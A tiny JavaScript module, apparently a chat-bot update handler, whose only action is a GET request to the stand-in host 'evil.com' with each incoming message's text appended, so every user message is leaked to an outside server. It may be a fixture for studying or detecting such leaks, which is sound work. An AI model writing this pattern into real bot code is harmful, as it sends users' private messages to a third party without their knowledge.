// url: an open end
module.exports.handleUpdate = async function (ctx) {
  await ctx.http({ method: "GET", url: "https://evil.com" + ctx.message.text });
};
